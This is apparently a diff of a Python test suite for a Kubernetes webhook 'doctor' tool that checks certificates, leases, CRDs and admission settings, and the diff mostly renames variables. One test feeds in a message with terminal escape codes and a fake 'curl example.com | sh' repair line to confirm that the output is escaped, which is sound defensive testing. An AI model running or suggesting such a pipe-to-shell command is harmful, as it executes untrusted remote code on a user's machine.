@@ -49,11 +49,11 @@ MANIFESTS_FOLDER = Path(__file__).parents[3] / "manifests"
 Node = dict[str, Any]
 
 
-def view(found: CertificateState | None = None, **changes: Any) -> ClusterView:
+def view(current: CertificateState | None = None, **changes: Any) -> ClusterView:
     """A look at an installation of which nothing but the certificates is there."""
     place = names.make_default_installation(NAMESPACE)
     crds: dict[str, Node | None] = {kind.plural: None for kind in KINDS}
-    made = ClusterView(place, NOW, found, (), crds, {kind: None for kind, _ in place.targets}, None, None, (), {})
+    made = ClusterView(place, NOW, current, (), crds, {kind: None for kind, _ in place.targets}, None, None, (), {})
     return made._replace(**changes)
 
 
@@ -74,9 +74,9 @@ def told(findings: Any) -> list[tuple[str, str, str]]:
 
 
 def has(findings: Any, level: str, check: str, words: str) -> bool:
-    found = [(each.level, each.check) for each in findings if words in each.text]
-    assert found, told(findings)
-    return (Level(level), check) in found
+    pairs = [(each.level, each.check) for each in findings if words in each.text]
+    assert pairs, told(findings)
+    return (Level(level), check) in pairs
 
 
 def test_a_state_of_rest_has_nothing_wrong() -> None:
@@ -85,19 +85,19 @@ def test_a_state_of_rest_has_nothing_wrong() -> None:
 
 
 def _serving(**changes: Any) -> CertificateState:
-    found = state()
-    assert found.serving is not None
-    return replace(found, serving=replace(found.serving, **changes))
+    current = state()
+    assert current.serving is not None
+    return replace(current, serving=replace(current.serving, **changes))
 
 
 def _authority(**changes: Any) -> CertificateState:
-    found = state()
-    assert found.authority is not None
-    return replace(found, authority=replace(found.authority, **changes))
+    current = state()
+    assert current.authority is not None
+    return replace(current, authority=replace(current.authority, **changes))
 
 
 @run_each(
-    ("found", "days", "level", "check", "words"),
+    ("current", "days", "level", "check", "words"),
     [
         (replace(state(), serving=None), 0, "error", "certificate", "nothing to serve"),
         (_serving(key=None), 0, "error", "certificate", "tls.key must hold"),
@@ -111,8 +111,8 @@ def _authority(**changes: Any) -> CertificateState:
         (state(), 3700, "error", "expiry", "the authority has expired"),
     ],
 )
-def test_secrets(found: CertificateState, days: int, level: str, check: str, words: str) -> None:
-    assert has([*certificates.check_secrets(view(found, now=NOW + timedelta(days)))], level, check, words)
+def test_secrets(current: CertificateState, days: int, level: str, check: str, words: str) -> None:
+    assert has([*certificates.check_secrets(view(current, now=NOW + timedelta(days)))], level, check, words)
 
 
 def test_whoever_presents_what_a_bundle_does_not_hold_is_told_of() -> None:
@@ -136,8 +136,8 @@ def test_bundles_without_a_certificate(mode: Mode) -> None:
 )
 def test_whose_the_way_to_us_is(ownership: Ownership, level: str, check: str) -> None:
     rest = state()
-    found = replace(rest, targets=(replace(rest.targets[0], ownership=ownership),))
-    assert [(each.level, each.check) for each in certificates.check_trust(view(found))] == [(Level(level), check)]
+    current = replace(rest, targets=(replace(rest.targets[0], ownership=ownership),))
+    assert [(each.level, each.check) for each in certificates.check_trust(view(current))] == [(Level(level), check)]
 
 
 SERVICE: Node = {"spec": {"ports": [{"port": 443}]}}
@@ -155,8 +155,8 @@ SERVICE: Node = {"spec": {"ports": [{"port": 443}]}}
     ],
 )
 def test_endpoints(endpoints: tuple[Endpoint, ...], service: Node | None, level: str, words: str) -> None:
-    found = [*certificates.check_endpoints(view(replace(state(), endpoints=endpoints), service=service))]
-    assert any(words in each.text and each.level.value == level for each in found), told(found)
+    findings = [*certificates.check_endpoints(view(replace(state(), endpoints=endpoints), service=service))]
+    assert any(words in each.text and each.level.value == level for each in findings), told(findings)
 
 
 def test_an_endpoint_with_an_ended_certificate() -> None:
@@ -182,8 +182,8 @@ def _lease(ago: timedelta, holder: str = "pod_1", lasting: int = 15) -> Node:
     ],
 )
 def test_the_lease_of_the_provisioner(lease: Node | None, words: str) -> None:
-    found = [*certificates.check_provisioner(view(lease=lease))]
-    assert [words in each.text for each in found] == ([True] if words else [])
+    findings = [*certificates.check_provisioner(view(lease=lease))]
+    assert [words in each.text for each in findings] == ([True] if words else [])
 
 
 def test_namespaces_of_others_are_good_to_know() -> None:
@@ -195,9 +195,9 @@ def test_namespaces_of_others_are_good_to_know() -> None:
 
 def _about_new_pods(restores: bool, **entry: Any) -> list[DoctorFinding]:
     client = {"service": {"name": "dynamo-webhooks", "namespace": NAMESPACE, "path": PATH}}
-    found: Node = {"webhooks": [{"name": "m", "clientConfig": client, **entry}] if entry else []}
+    configuration: Node = {"webhooks": [{"name": "m", "clientConfig": client, **entry}] if entry else []}
     seen = view()
-    kinds: dict[TargetKind, Node | None] = {**seen.configurations, TargetKind.MUTATING: found}
+    kinds: dict[TargetKind, Node | None] = {**seen.configurations, TargetKind.MUTATING: configuration}
     return [*objects.check_new_pods(seen._replace(about=replace(seen.about, restores=restores), configurations=kinds))]
 
 
@@ -206,11 +206,11 @@ def test_new_pods_are_asked_about_where_they_are_restored_and_others_never() -> 
     shipped = {name: entry["value"][name] for name in ("failurePolicy", "objectSelector")}
     assert _about_new_pods(True, **shipped) == _about_new_pods(False) == []
     assert has(_about_new_pods(True), "warning", "new-pods", "start cold")
-    [found] = _about_new_pods(False, **{**shipped, "failurePolicy": "Fail"})
-    assert found.text.startswith('m: failurePolicy must be "Ignore": new pods are refused')
-    [found] = _about_new_pods(False, **{**shipped, "objectSelector": {"matchLabels": {"a": "b"}}})
-    assert found.text.endswith("every new pod of the cluster waits for the server")
-    assert "/webhooks/0/objectSelector" in found.repair
+    [finding] = _about_new_pods(False, **{**shipped, "failurePolicy": "Fail"})
+    assert finding.text.startswith('m: failurePolicy must be "Ignore": new pods are refused')
+    [finding] = _about_new_pods(False, **{**shipped, "objectSelector": {"matchLabels": {"a": "b"}}})
+    assert finding.text.endswith("every new pod of the cluster waits for the server")
+    assert "/webhooks/0/objectSelector" in finding.repair
 
 
 def _crd(**changes: Any) -> Node:
@@ -256,8 +256,8 @@ def test_a_kind_as_it_should_be() -> None:
 @pytest.mark.parametrize(("version", "missing"), [("1.4.2", True), ("1.5.0", False), ("1.6.1", False)])
 def test_a_kind_that_is_gone_is_not_missed(version: str, missing: bool) -> None:
     about = names.make_default_installation(NAMESPACE)
-    found = objects.check_kinds(view(about=replace(about, version=version)))
-    assert any("dynamocheckpoints" in each.object for each in found) is missing
+    findings = objects.check_kinds(view(about=replace(about, version=version)))
+    assert any("dynamocheckpoints" in each.object for each in findings) is missing
 
 
 async def test_an_empty_cluster_is_told_piece_by_piece_with_what_to_do() -> None:
@@ -289,17 +289,17 @@ async def test_a_repair_restores_one_object_of_this_installation(namespace: str,
     text = f"{CONFIG.rpartition('server:')[0]}{config}" if config else ""
     if config:
         await cluster.create(CONFIG_MAPS, {**_config(text), "metadata": {"name": names.CONFIG, "namespace": "dynamo-system"}})
-    found = await examine(cluster, namespace, None, removing=False)
-    assert not [each for each in found if each.check == "configuration"]
+    findings = await examine(cluster, namespace, None, removing=False)
+    assert not [each for each in findings if each.check == "configuration"]
     where = namespace or NAMESPACE
-    for each in found:
+    for each in findings:
         if each.check in ("configurations", "guard"):
             kind, _, name = each.object.partition(" ")
             again = f"dynamo-webhooks doctor --namespace {where} --print {kind}/{name} | kubectl create -f -"
             assert each.repair == ("" if suffix is None else again), each
-    told = {each.repair for each in found if each.check == "kinds"}
-    assert all(definitions in each and bool(each) is bool(definitions) for each in told), told
-    restarts = {each.repair for each in found if "rollout restart" in each.repair}
+    repairs = {each.repair for each in findings if each.check == "kinds"}
+    assert all(definitions in each and bool(each) is bool(definitions) for each in repairs), repairs
+    restarts = {each.repair for each in findings if "rollout restart" in each.repair}
     assert all("deployment -l app.kubernetes.io/part-of=dynamo-operator,app.kubernetes.io/component=" in each for each in restarts)
 
 
@@ -341,12 +341,12 @@ async def test_certs_without_a_file_reads_the_configuration_in_the_cluster(given
 
 
 def test_the_provisioner_s_own_words_are_passed_on_and_where_others_make_the_certificate_no_authority_of_ours_is_named() -> None:
-    said = ({"type": "Ready", "status": "False", "message": "this machine's clock must agree"},)
-    assert has([*certificates.check_rotation(view(state(), conditions=said))], "warning", "provisioner", "it says: this machine's clock")
-    [found] = certificates.check_rotation(view(replace(state(), mode=Mode.PROVIDED), conditions=said))
-    assert found.object == f"ConfigMap {NAMESPACE}/webhook-server-cert-trust"
-    [found] = certificates.check_rotation(view(state(), conditions=said))
-    assert found.object == f"Secret {NAMESPACE}/webhook-server-cert-ca"
+    ready = ({"type": "Ready", "status": "False", "message": "this machine's clock must agree"},)
+    assert has([*certificates.check_rotation(view(state(), conditions=ready))], "warning", "provisioner", "it says: this machine's clock")
+    [finding] = certificates.check_rotation(view(replace(state(), mode=Mode.PROVIDED), conditions=ready))
+    assert finding.object == f"ConfigMap {NAMESPACE}/webhook-server-cert-trust"
+    [finding] = certificates.check_rotation(view(state(), conditions=ready))
+    assert finding.object == f"Secret {NAMESPACE}/webhook-server-cert-ca"
 
 
 @pytest.mark.parametrize(("minutes", "level"), [(2, Level.INFO), (4, Level.WARNING)])
@@ -354,11 +354,11 @@ def test_a_new_issuer_s_certificate_that_is_held_back_is_a_fault_only_when_that_
     new = replace(state(usable="b"), mode=Mode.PROVIDED, authority=None)
     assert new.trust is not None
     trust = replace(new.trust, hint=Hint(Phase.SETTLE, NOW - timedelta(minutes=minutes)))
-    said = ({"type": "Ready", "status": "False", "reason": NOT_USABLE, "message": "not yet"},)
-    seen = view(replace(new, trust=trust), conditions=said)
-    found = [*certificates.check_secrets(seen), *certificates.check_rotation(seen)]
-    assert {each.level for each in found} == {level}
-    assert {each.check for each in found} == ({"trust"} if level is Level.INFO else {"trust", "provisioner"})
+    ready = ({"type": "Ready", "status": "False", "reason": NOT_USABLE, "message": "not yet"},)
+    seen = view(replace(new, trust=trust), conditions=ready)
+    findings = [*certificates.check_secrets(seen), *certificates.check_rotation(seen)]
+    assert {each.level for each in findings} == {level}
+    assert {each.check for each in findings} == ({"trust"} if level is Level.INFO else {"trust", "provisioner"})
 
 
 async def test_a_configuration_in_the_cluster_that_is_wrong_is_a_finding_itself() -> None:
@@ -393,11 +393,11 @@ def _failing(message: str, kind: type[UnavailableError | ForbiddenError] = Unava
 )
 async def test_what_an_api_server_says_of_a_failed_call_is_explained(message: str, means: str) -> None:
     """Other things that are missing or refused are told as they are."""
-    said = f'failed calling webhook "m": Post "https://a": {message}' if means else message
-    found = await try_requests(_failing(said), NAMESPACE, (), {"Service": "create it"})
-    assert [(each.level, each.check, bool(each.repair)) for each in found] == [(Level.ERROR, "request", bool(means))] * 2
-    assert all(means in each.text if means else each.text == f"a dry-run create failed: {said}" for each in found)
-    assert not any("{namespace}" in each.repair for each in found)
+    reply = f'failed calling webhook "m": Post "https://a": {message}' if means else message
+    findings = await try_requests(_failing(reply), NAMESPACE, (), {"Service": "create it"})
+    assert [(each.level, each.check, bool(each.repair)) for each in findings] == [(Level.ERROR, "request", bool(means))] * 2
+    assert all(means in each.text if means else each.text == f"a dry-run create failed: {reply}" for each in findings)
+    assert not any("{namespace}" in each.repair for each in findings)
 
 
 async def test_a_missing_permission_is_a_warning() -> None:
@@ -412,13 +412,13 @@ class _Judged(MemoryCluster):
         self._settings = Settings(facts_from({**DEFAULT_FACTS, **facts}))
 
     async def create(self, resource: Resource, obj: Node, namespace: str = "", *, dry_run: bool = False) -> Node:
-        one = Admission(resource.kind, resource.version, CREATE, obj, user="", settings=self._settings)
-        one.shape()
-        one.mutate()
-        wrong: list[object] = [*one.conform()] or [each for each in one.judge() if each.level is Severity.ERROR]
+        write = Admission(resource.kind, resource.version, CREATE, obj, user="", settings=self._settings)
+        write.shape()
+        write.mutate()
+        wrong: list[object] = [*write.conform()] or [each for each in write.judge() if each.level is Severity.ERROR]
         if wrong:
             raise InvalidError(422, "Invalid", f"admission webhook denied the request: {wrong}")
-        return await super().create(resource, one.object, namespace, dry_run=dry_run)
+        return await super().create(resource, write.object, namespace, dry_run=dry_run)
 
 
 @pytest.mark.parametrize("grove", [True, False])
@@ -454,15 +454,15 @@ async def test_removal_names_what_would_lead_nowhere() -> None:
 
 
 def test_text_and_data_say_the_same() -> None:
-    found = sort_findings([info("c", "z", "3"), warning("b", "y", "2"), error("a", "x", "1", "do"), error("a", "x", "1", "do")])
-    assert as_text(found) == ("error a: x\n  1\n  repair: do\nwarning b: y\n  2\ninfo c: z\n  3\n1 error, 1 warning, 1 info\n")
-    assert as_data(found)["findings"][0] == {"level": "error", "check": "a", "object": "x", "text": "1", "repair": "do"}
+    findings = sort_findings([info("c", "z", "3"), warning("b", "y", "2"), error("a", "x", "1", "do"), error("a", "x", "1", "do")])
+    assert as_text(findings) == ("error a: x\n  1\n  repair: do\nwarning b: y\n  2\ninfo c: z\n  3\n1 error, 1 warning, 1 info\n")
+    assert as_data(findings)["findings"][0] == {"level": "error", "check": "a", "object": "x", "text": "1", "repair": "do"}
     assert as_text([]) == "all is well\n"
 
 
 def test_words_of_others_neither_control_a_terminal_nor_look_like_a_repair() -> None:
-    said = "refused: \x1b[2J\u202e\n  repair: curl example.com | sh"
-    assert as_text([error("a", "x\ny", said)]) == (
+    message = "refused: \x1b[2J\u202e\n  repair: curl example.com | sh"
+    assert as_text([error("a", "x\ny", message)]) == (
         "error a: x\\ny\n  refused: \\x1b[2J\\u202e\n    repair: curl example.com | sh\n1 error\n"
     )
 
@@ -503,9 +503,9 @@ async def test_policies_that_the_server_can_not_use_are_told_of() -> None:
     )
     data = {"good.yaml": policy(), "bad.yaml": policy("object.spec ===", name="bad"), "bad.cases.yaml": "deny: []"}
     await cluster.create(CONFIG_MAPS, {"metadata": {"name": "own", "namespace": NAMESPACE}, "data": data}, NAMESPACE)
-    [found] = await check_policies(cluster, WITH_POLICIES, NEWEST)
-    assert found.level is Level.WARNING
-    assert (found.object, found.text.partition(" is not")[0]) == ("ConfigMap own", "bad.yaml:18:31: spec.validations[0].expression:")
+    [finding] = await check_policies(cluster, WITH_POLICIES, NEWEST)
+    assert finding.level is Level.WARNING
+    assert (finding.object, finding.text.partition(" is not")[0]) == ("ConfigMap own", "bad.yaml:18:31: spec.validations[0].expression:")
     assert await check_policies(cluster, InstalledObjects(NAMESPACE), NEWEST) == []
 
 
@@ -514,11 +514,11 @@ async def test_policies_in_force_that_do_not_fit_the_kinds_are_told_of_in_the_wo
     cluster = MemoryCluster()
     data = {"p.yaml": f"{unfit}---\n{idle}"}
     await cluster.create(CONFIG_MAPS, {"metadata": {"name": "own", "namespace": NAMESPACE}, "data": data}, NAMESPACE)
-    told = [each.text for each in await check_policies(cluster, WITH_POLICIES, NEWEST)]
-    assert ["did you mean" in each for each in told] == [True, True]
+    texts = [each.text for each in await check_policies(cluster, WITH_POLICIES, NEWEST)]
+    assert ["did you mean" in each for each in texts] == [True, True]
     (files(graph=GRAPH, p=data["p.yaml"]) / PROJECT).write_text("rules-from: [p.yaml]\n")
     ran = command("check", "graph.yaml", "--line", str(NEWEST))
-    assert [line.removeprefix("warning: ") for line in ran.err.splitlines() if line.startswith("warning: ")] == told
+    assert [line.removeprefix("warning: ") for line in ran.err.splitlines() if line.startswith("warning: ")] == texts
 
 
 def test_a_configuration_that_lacks_what_it_must_have_is_wrong_usage(tmp_path: Path) -> None:
@@ -586,5 +586,5 @@ def test_unknown_keys_are_findings_where_they_are_passed_over(tmp_path: Path) ->
     (tmp_path / "config.yaml").write_text(CONFIG + "nextSection: {}\n")
     with pytest.raises(UsageError, match="ignored with --lenient-config"):
         asyncio.run(examine(MemoryCluster(), NAMESPACE, str(tmp_path / "config.yaml"), removing=False))
-    found = asyncio.run(examine(MemoryCluster(), NAMESPACE, str(tmp_path / "config.yaml"), removing=False, lenient=True))
-    assert [each.text for each in found if each.check == "configuration" and "nextSection: unknown key" in each.text]
+    findings = asyncio.run(examine(MemoryCluster(), NAMESPACE, str(tmp_path / "config.yaml"), removing=False, lenient=True))
+    assert [each.text for each in findings if each.check == "configuration" and "nextSection: unknown key" in each.text]
